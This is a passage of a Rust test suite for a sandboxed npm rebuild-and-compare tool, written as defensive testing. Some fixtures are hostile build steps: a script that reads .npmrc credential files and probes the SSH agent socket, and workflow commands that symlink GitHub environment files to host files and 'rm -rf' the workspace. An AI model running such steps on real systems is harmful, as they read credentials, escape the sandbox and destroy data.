         for (const p of [{project:?}, {user:?}, {global:?}]) {{\n\
           try {{ console.log('read ' + p + ': ' + require('fs').readFileSync(p, 'utf8')); }}\n\
           catch (e) {{ console.log('hidden ' + p + ': ' + e.code); }}\n\
         }}\n\
         const agent = net.connect({agent:?});\n\
         agent.on('connect', () => {{ console.log('agent reached'); agent.end(); build(); }});\n\
         agent.on('error', (e) => {{ console.log('agent hidden: ' + e.code); build(); }});\n\
         function build() {{\n{GOOD_BUILD}}}\n",
        project = project_npmrc.to_str().unwrap(),
        user = user_npmrc.to_str().unwrap(),
        global = global_npmrc.to_str().unwrap(),
        agent = agent.to_str().unwrap(),
    );
    let scenario = Rebuild::new_in(&project, &node_build_files(&build), run_node_build, |_| {});
    fs_err::write(&project_npmrc, "//registry.invalid/:_authToken=PROJECT-SECRET\n").unwrap();
    fs_err::write(&user_npmrc, "//registry.invalid/:_authToken=USER-SECRET\n").unwrap();
    fs_err::write(&global_npmrc, "//registry.invalid/:_authToken=GLOBAL-SECRET\n").unwrap();
    let listener = std::os::unix::net::UnixListener::bind(&agent).unwrap();
    listener.set_nonblocking(true).unwrap();

    let run = scenario.check(
        &["--json", "--rebuild", "--rebuild-offline"],
        &[
            ("npm_config_userconfig", user_npmrc.as_os_str()),
            ("npm_config_globalconfig", global_npmrc.as_os_str()),
            ("SSH_AUTH_SOCK", agent.as_os_str()),
        ],
    );
    for secret in ["PROJECT-SECRET", "USER-SECRET", "GLOBAL-SECRET"] {
        assert!(!run.stdout.contains(secret) && !run.stderr.contains(secret), "{secret}:\n{}", run.stdout);
    }
    assert!(listener.accept().is_err(), "the build reached the SSH agent:\n{}", run.stdout);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    let log = report["rebuild"]["build"]["steps"][1]["log"].as_str().unwrap();
    for file in [&project_npmrc, &user_npmrc, &global_npmrc] {
        // Covered by an empty file, or gone with a directory the sandbox replaces (a checkout
        // under /tmp puts them there).
        let empty = log.contains(&format!("read {}: \n", file.display()));
        let gone = log.contains(&format!("hidden {}: ENOENT", file.display()));
        assert!(empty || gone, "empty or absent in the sandbox: {log}");
    }
    assert!(log.contains("agent hidden"), "{log}");
}

/// yarn 1 and yarn berry as `cargo xtask pack-tools` installs them, or why they are missing.
fn yarn_programs() -> Option<(PathBuf, PathBuf)> {
    let tools = Path::new(ROOT).join("target/pack-tools");
    let classic = tools.join("yarn@1.22.22/node_modules/yarn/bin/yarn.js");
    let berry = fs_err::read_dir(&tools).ok().and_then(|entries| {
        entries
            .flatten()
            .filter(|entry| entry.file_name().to_string_lossy().starts_with("@yarnpkg+cli-dist@"))
            .map(|entry| entry.path().join("node_modules/@yarnpkg/cli-dist/bin/yarn.js"))
            .find(|path| path.is_file())
    });
    match (classic.is_file(), berry) {
        (true, Some(berry)) => Some((classic, berry)),
        _ => {
            assert!(
                std::env::var("PROVDIFF_REQUIRE_NPM").ok().is_none_or(|value| value != "1"),
                "PROVDIFF_REQUIRE_NPM=1 but yarn 1 and yarn berry are not installed: run `cargo xtask pack-tools`"
            );
            eprintln!("skipping: yarn is not installed in target/pack-tools (`cargo xtask pack-tools`)");
            None
        }
    }
}

#[test]
fn yarn_1_and_yarn_berry_reach_the_configured_registry() {
    let (Some((classic, berry)), true) = (yarn_programs(), sandbox_works()) else { return };
    // The build runs yarn from this checkout's target/, which the sandbox shows only where it
    // does not replace the directory around it with an empty one.
    if let Some(fresh) = ["/tmp", "/var/tmp", "/run", "/home"].iter().find(|dir| Path::new(ROOT).starts_with(dir)) {
        eprintln!(
            "skipping: this checkout is under {fresh}, which the sandbox replaces, so the build cannot run its yarn"
        );
        return;
    }
    let registry = TestRegistry::start();
    registry.serve(
        "/left-pad",
        provdiff_testkit::Resource::json(
            r#"{"name":"left-pad","dist-tags":{"latest":"1.3.0"},"versions":{"1.3.0":{"name":"left-pad","version":"1.3.0"}}}"#,
        ),
    );
    let files = vec![
        RepoFile::new("package.json", r#"{"name":"widget","version":"1.2.3","license":"MIT"}"#),
        RepoFile::new(
            ".github/workflows/publish.yml",
            workflow(&[
                &format!("node {} info left-pad version --non-interactive", classic.display()),
                &format!("node {} npm info left-pad --fields version", berry.display()),
            ]),
        ),
    ];
    let scenario = Rebuild::new(&files, |_| {}, with_a_file_to_rebuild);
    let url = registry.url();
    let run = scenario.check(&["--json", "--rebuild", "--registry", &url], &[]);
    let report = run.json();
    let steps = report["rebuild"]["build"]["steps"].as_array().unwrap();
    for (step, tool) in steps.iter().zip(["yarn 1", "yarn berry"]) {
        assert_eq!(step["exit"]["code"], 0, "{tool} reaches the registry: {}", step["log"]);
        assert!(step["log"].as_str().unwrap().contains("1.3.0"), "{tool}: {}", step["log"]);
    }
    assert_eq!(report["rebuild"]["build"]["refused_connections"], serde_json::json!([]), "{}", run.stdout);
    assert!(registry.requests_to("/left-pad").len() >= 2);
}

#[test]
fn an_unsandboxed_offline_build_says_it_had_the_network_and_leaves_the_cache_alone() {
    let cache = tempfile::tempdir().unwrap();
    let index = cache.path().join("_cacache/index-v5/aa/bb");
    fs_err::create_dir_all(index.parent().unwrap()).unwrap();
    fs_err::write(&index, "entry\n").unwrap();
    let content = cache.path().join("_cacache/content-v2/sha512/aa/cc");
    fs_err::create_dir_all(content.parent().unwrap()).unwrap();
    fs_err::write(&content, "content\n").unwrap();
    let listing = |dir: &Path| {
        let mut files = Vec::new();
        let mut stack = vec![dir.to_path_buf()];
        while let Some(dir) = stack.pop() {
            for entry in fs_err::read_dir(&dir).unwrap().flatten() {
                if entry.path().is_dir() {
                    stack.push(entry.path());
                } else {
                    files.push((entry.path(), fs_err::read(entry.path()).unwrap()));
                }
            }
        }
        files.sort();
        files
    };
    let before = listing(cache.path());

    // The build writes into the npm cache it is given, and shows that it sees the copied content.
    let build = format!(
        "const fs = require('fs');\nconst cache = process.env.npm_config_cache;\n\
         fs.writeFileSync(cache + '/written-by-the-build', 'x');\n\
         fs.appendFileSync(cache + '/_cacache/index-v5/aa/bb', 'more\\n');\n\
         console.log('content: ' + fs.readFileSync(cache + '/_cacache/content-v2/sha512/aa/cc', 'utf8'));\n{}",
        GOOD_BUILD.trim_start_matches("const fs = require('fs');\n")
    );
    let scenario = Rebuild::new(&node_build_files(&build), |_| {}, publish_a_build_output);
    let run = scenario.check(
        &[
            "--json",
            "--rebuild",
            "--rebuild-offline",
            "--rebuild-cache",
            cache.path().to_str().unwrap(),
            "--unsandboxed",
        ],
        &[],
    );
    assert_eq!(listing(cache.path()), before, "the build wrote to --rebuild-cache");
    let report = run.json();
    let network = report["rebuild"]["build"]["network"].as_str().unwrap();
    assert!(network.starts_with("unrestricted (--unsandboxed)"), "{network}");
    assert!(network.contains("nothing kept the build off the network"), "{network}");
    assert!(report["rebuild"]["build"]["steps"][1]["log"].as_str().unwrap().contains("content: content"));
}

#[test]
fn a_rebuild_reports_each_difference_once() {
    if !sandbox_works() {
        return;
    }
    // The build makes dist/index.js; the published package.json says something the commit does not.
    let scenario = Rebuild::new(&node_build_files(GOOD_BUILD), run_node_build, |files| {
        let manifest = files.iter_mut().find(|file| file.path == "package.json").unwrap();
        let mut json: serde_json::Value = serde_json::from_slice(&manifest.content).unwrap();
        json["description"] = "not in the commit".into();
        manifest.content = serde_json::to_vec(&json).unwrap();
    });
    let run = scenario.check(&["--json", "--rebuild", "--rebuild-offline"], &[]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["rebuild"]["status"], "built", "{}", run.stdout);
    let mut seen = std::collections::BTreeSet::new();
    for finding in report["findings"].as_array().unwrap() {
        assert!(seen.insert(finding.to_string()), "reported twice: {finding}");
    }
    assert_eq!(finding(&report, "package-json-field-differs").len(), 1, "{}", run.stdout);
}

#[test]
fn links_a_build_leaves_are_never_followed_outside_the_sandbox() {
    if !sandbox_works() {
        return;
    }
    // Host files the sandbox cannot see (its /tmp is fresh), but provdiff, outside, could.
    let host = tempfile::tempdir().unwrap();
    let victim = host.path().join("victim");
    fs_err::write(&victim, "precious\n").unwrap();
    let secret_env = host.path().join("secret-env");
    fs_err::write(&secret_env, "LEAK=HOST-SECRET-4242\n").unwrap();
    let elsewhere = host.path().join("elsewhere");
    fs_err::create_dir_all(elsewhere.join("dist")).unwrap();
    fs_err::write(
        elsewhere.join("package.json"),
        r#"{"name":"widget","version":"1.2.3","main":"dist/index.js","files":["dist"],"license":"MIT"}"#,
    )
    .unwrap();
    fs_err::write(elsewhere.join("dist/index.js"), "HOST-FILE-CONTENT\n").unwrap();

    let steps = [
        // The next step's GITHUB_ENV, made in advance as a link to a host file provdiff would write.
        format!("ln -sf {} \"$(dirname \"$GITHUB_ENV\")/set_env_1\"", victim.display()),
        // This step's own GITHUB_ENV and GITHUB_PATH, as links to a host file provdiff would read.
        format!("ln -sf {0} \"$GITHUB_ENV\"; ln -sf {0} \"$GITHUB_PATH\"", secret_env.display()),
        "echo \"leaked=[$LEAK]\"".to_string(),
        "node build.js".to_string(),
        // Last, the checkout itself becomes a link to a host directory.
        format!("ws=$PWD; cd /; rm -rf \"$ws\"; ln -s {} \"$ws\"", elsewhere.display()),
    ];
    let steps: Vec<&str> = steps.iter().map(String::as_str).collect();
    let mut files = node_build_files(GOOD_BUILD);
    files.retain(|file| file.path != ".github/workflows/publish.yml");
    files.push(RepoFile::new(".github/workflows/publish.yml", workflow(&steps)));
    let scenario = Rebuild::new(&files, run_node_build, |_| {});
    let run = scenario.check(&["--json", "--rebuild", "--rebuild-offline"], &[]);
    assert_eq!(fs_err::read_to_string(&victim).unwrap(), "precious\n", "provdiff wrote through the build's link");
    for leaked in ["HOST-SECRET-4242", "HOST-FILE-CONTENT"] {
        assert!(!run.stdout.contains(leaked) && !run.stderr.contains(leaked), "{leaked}:\n{}", run.stdout);
    }
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["rebuild"]["status"], "refused-by-sandbox", "{}", run.stdout);
    assert!(report["rebuild"]["build"]["outcome"]["reason"].as_str().unwrap().contains("link"), "{}", run.stdout);
    let denied = finding(&report, "rebuild-sandbox-denied");
    assert!(denied.iter().any(|f| f["detail"].as_str().unwrap().contains("GITHUB_ENV")), "{denied:?}");
}
